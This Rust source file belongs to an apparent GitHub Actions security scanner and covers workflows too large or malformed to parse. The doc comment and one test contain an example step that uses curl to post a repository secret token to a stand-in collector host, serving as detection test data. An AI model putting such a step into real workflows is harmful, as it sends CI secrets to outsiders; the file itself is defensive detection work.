//! A workflow could not be analysed, so a coarse search stands in for it.
//!
//! It is too large, has too many nodes or anchors, calls itself in a circle, or is no YAML. Bounds keep the scanner alive, and a
//! thief could hide behind them. So the whole text is searched once for secrets or an environment, and for anything that sends or
//! encodes: with both it is `suspicious`, else `advice`. GitHub refuses most such files, and then the finding says that it could
//! not have run.
//!
//! ```yaml
//! on: push
//! jobs:
//!   a:
//!     steps:
//!       - run: curl -d "${{ secrets.TOKEN }}" https://collector.example
//!      - this line is indented wrongly
//! ```

use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct UnanalysedWorkflow;

impl Technique for UnanalysedWorkflow {
    fn id(&self) -> &'static str {
        crate::analysis::UNANALYSED
    }
    fn headline(&self) -> &'static str {
        "this workflow could not be analysed, only searched: {secrets} may leave"
    }
    fn remedy(&self) -> &'static str {
        "read it, and take it out if nobody knows what it is for; else make it a file that can be analysed"
    }
    fn source(&self) -> &'static str {
        include_str!("unanalysed_workflow.rs")
    }

    /// Nothing: there is no evidence where there was no analysis. [`crate::analysis::coarse`] looks instead.
    fn look(&self, _evidence: &Evidence<'_>) -> Vec<Sighting> {
        Vec::new()
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::NoFiles;
    use crate::report::Verdict;
    use crate::verdict::weigh;

    fn verdicts(text: &str) -> Vec<Verdict> {
        let analysis = crate::analysis::analyse(".github/workflows/a.yml", text.as_bytes(), &NoFiles, None);
        let coarse = analysis.seen.iter().filter(|seen| seen.rule == crate::analysis::UNANALYSED);
        coarse.map(|seen| weigh(seen.rule, &seen.signals)).collect()
    }

    #[test]
    fn a_secret_and_a_way_out_in_a_file_that_is_too_deep() {
        let deep = format!("x: {}{}\n", "[".repeat(70), "]".repeat(70));
        let theft = "run: curl -d ${{ secrets.TOKEN }} https://collector.example\n";
        assert_eq!(verdicts(&format!("{deep}{theft}")), [Verdict::Suspicious]);
    }

    #[test]
    fn without_a_secret_it_is_advice() {
        assert_eq!(verdicts(&format!("x: {}{}\n", "[".repeat(70), "]".repeat(70))), [Verdict::Advice]);
    }

    #[test]
    fn a_file_that_can_be_analysed_is_none() {
        assert_eq!(
            verdicts("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
            []
        );
    }
}
